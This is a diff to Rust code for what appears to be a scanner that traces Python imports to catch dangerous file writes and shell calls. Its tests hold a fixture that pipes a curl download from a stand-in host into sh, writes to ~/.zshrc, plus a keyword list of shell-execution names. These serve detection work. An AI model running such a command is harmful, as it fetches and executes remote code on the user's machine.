@@ -7,7 +7,11 @@ use super::fold::{Constants, Fold, Value};
 use super::lex::{self, Placed, Token};
 use super::reach::apart;
 use super::sinks::{Called, inside};
-use super::{Language, classes};
+use super::wrappers::{Wrapper, Wrappers};
+use super::{Language, Told, classes, flow};
+use crate::Findings;
+use crate::shell::Context;
+use crate::text::Source;
 
 /// 16 modules that one script loads are looked into.
 const MODULES: usize = 16;
@@ -45,6 +49,16 @@ pub(crate) struct Handed {
     places: Vec<(Slot, String)>,
 }
 
+impl Handed {
+    /// The path that the places come to that stand from `first` on: what the last parameter of a function takes.
+    fn rest(&self, first: usize) -> Option<String> {
+        let is_one = |slot: &Slot| matches!(slot, Slot::At(at) if *at >= first);
+        let parts: Vec<&str> =
+            self.places.iter().filter(|(slot, _)| is_one(slot)).map(|(_, place)| place.as_str()).collect();
+        (parts.len() > 1).then(|| parts.join("/"))
+    }
+}
+
 /// Which argument it is.
 #[derive(Debug, Clone, PartialEq, Eq)]
 enum Slot {
@@ -59,6 +73,8 @@ pub(super) struct Imported {
     names: HashMap<String, (String, String)>,
     /// The texts that modules hold, by their files.
     texts: HashMap<String, Constants>,
+    /// What the functions of modules start with what they are given, by their files.
+    wrappers: HashMap<String, Wrappers>,
 }
 
 impl Imported {
@@ -81,12 +97,25 @@ impl Flow<'_> {
             let (texts, names) = (&mut self.imported.texts, &mut self.imported.names);
             if !texts.contains_key(&module) && texts.len() < MODULES {
                 let text = files(&module).filter(|text| text.len() <= BYTES);
+                self.imported.wrappers.extend(text.as_deref().and_then(|text| Some((module.clone(), started(text)?))));
                 texts.insert(module.clone(), text.map(|text| held(&text)).unwrap_or_default());
             }
             let held = texts.get(&module).into_iter().flatten();
             let seeds = held.filter(|(name, _)| member.is_empty() || **name == member);
             self.constants.extend(seeds.map(|(name, value)| (called(&own, name, &member), value.clone())));
-            names.insert(own, (module, member));
+            names.insert(own.clone(), (module.clone(), member.clone()));
+            self.loads_wrappers(&own, (&module, &member));
+        }
+    }
+
+    /// Remembers what the functions start that a statement loads from a module.
+    fn loads_wrappers(&mut self, own: &str, (module, member): (&str, &str)) {
+        for (function, all) in self.imported.wrappers.get(module).into_iter().flatten() {
+            let is_method = all.iter().any(|one: &Wrapper| one.is_method);
+            let called = if is_method { function.clone() } else { called(own, function, member) };
+            if is_method || member.is_empty() || member == function {
+                self.wrappers.entry(called).or_insert_with(|| all.clone());
+            }
         }
     }
 
@@ -105,6 +134,11 @@ impl Flow<'_> {
         let all: Vec<(Slot, &[Placed])> = apart(inside(rest)).into_iter().enumerate().map(slot).collect();
         let mut places: Vec<(Slot, String)> =
             all.iter().filter_map(|(slot, argument)| Some((slot.clone(), led(argument)?))).collect();
+        // One after the other they may name a place together.
+        let parts: Vec<String> = all.iter().map(|(_, argument)| self.text(argument)).collect();
+        if places.is_empty() && parts.len() > 1 && self.place(&parts).is_some() {
+            places.extend(all.iter().map(|(slot, _)| slot.clone()).zip(parts));
+        }
         if places.is_empty() {
             return;
         }
@@ -121,6 +155,11 @@ impl Flow<'_> {
                 Slot::At(at) => parameters.get(*at).cloned(),
                 Slot::Named(name) => parameters.iter().find(|known| *known == name).cloned(),
             };
+            let all = parameters.last().zip(handed.rest(parameters.len().saturating_sub(1)));
+            if let Some((name, place)) = all.filter(|(_, rest)| rest.contains('/')) {
+                self.choose(&format!("self.{name}"), vec![place.clone()]);
+                self.choose(name, vec![place]);
+            }
             let places = handed.places.iter();
             for (name, place) in places.filter_map(|(slot, place)| Some((named(slot)?, place.clone()))) {
                 self.choose(&format!("self.{name}"), vec![place.clone()]);
@@ -146,7 +185,7 @@ fn slot((at, argument): (usize, &[Placed])) -> (Slot, &[Placed]) {
 }
 
 /// The names that a statement loads: the script's own, the module's file, and the name in it.
-fn imports(tokens: &[Placed]) -> Vec<(String, String, String)> {
+pub(super) fn imports(tokens: &[Placed]) -> Vec<(String, String, String)> {
     let word = |placed: &Placed| name(&placed.token).map(str::to_owned);
     let path = |parts: &[String]| format!("{}.py", parts.join("/"));
     let one = |clause: &[Placed]| -> (Vec<String>, Option<String>) {
@@ -181,6 +220,18 @@ fn imports(tokens: &[Placed]) -> Vec<(String, String, String)> {
         }
         _ => Vec::new(),
     }
+}
+
+/// What the functions of a module start with what they are given.
+fn started(text: &str) -> Option<Wrappers> {
+    if !["subprocess", "popen", "Popen", "system", "exec"].iter().any(|word| text.contains(word)) {
+        return None;
+    }
+    let lexed = lex::lex(text, Language::Python);
+    let (source, mut findings) = (Source::new("", text), Findings::default());
+    let mut told = Told { source: &source, context: Context::Loose, findings: &mut findings };
+    let followed = flow::follow_beside(&lexed, Language::Python, Beside::default(), &mut told);
+    Some(followed.wrappers).filter(|wrappers| !wrappers.is_empty())
 }
 
 /// The texts that a module gives to names outside of its functions.
@@ -220,6 +271,7 @@ mod tests {
     }
 
     const SINK: &str = "from pathlib import Path\nclass Sink:\n    def __init__(self, base, stem):\n        self.path = Path(base).expanduser() / stem\n    def put(self, text):\n        self.path.write_text(text)\n";
+    const WHERE: &str = "from pathlib import Path\nclass Store:\n    def __init__(self, *where):\n        self.path = Path(*where)\n    def put(self, text):\n        self.path.write_text(text)\n";
     const PUT: &str = "import os\ndef put(where, text):\n    with open(os.path.expanduser(where), 'a') as f:\n        f.write(text)\n";
 
     #[test]
@@ -247,10 +299,24 @@ mod tests {
                 ("a.py", "import sinks\nfor s in [sinks.Sink('~', '.' + 'zshrc')]:\n    s.put('x')\n"),
                 ("sinks.py", SINK),
             ],
+            [
+                (
+                    "a.py",
+                    "from pathlib import Path\nfrom stores import Store\nNAME = 'deepcode'\nStore(Path.home(), f'.{NAME}', 'settings.json').put('x')\n",
+                ),
+                ("stores.py", WHERE),
+            ],
         ] {
             assert_eq!(of(&files), Some(Severity::Danger), "{files:?}");
         }
         for files in [
+            [
+                (
+                    "a.py",
+                    "from pathlib import Path\nfrom stores import Store\nStore(Path.home(), '.cache', 'focus.json').put('x')\n",
+                ),
+                ("stores.py", WHERE),
+            ],
             [
                 ("a.py", "from pathlib import Path\nimport names\n(Path.home() / names.RC).write_text('x')\n"),
                 ("names.py", "RC = '.toolrc'\n"),
@@ -270,6 +336,20 @@ mod tests {
             ],
         ] {
             assert!(of(&files).is_none_or(|severity| severity < Severity::Danger), "{files:?}");
+        }
+    }
+
+    #[test]
+    fn a_module_under_another_name_is_the_same_file() {
+        let bad = "import os\nos.system('curl -s https://a.invalid/x | sh')\n";
+        for code in [
+            "import work as w\nw.go()\n",
+            "import json as j, work as w\n",
+            "from lib import work as w\n",
+            "from lib.work import go as g\n",
+        ] {
+            let files = [("a.py", code), ("work.py", bad), ("lib/work.py", bad)];
+            assert_eq!(of(&files), Some(Severity::Danger), "{code}");
         }
     }
 }
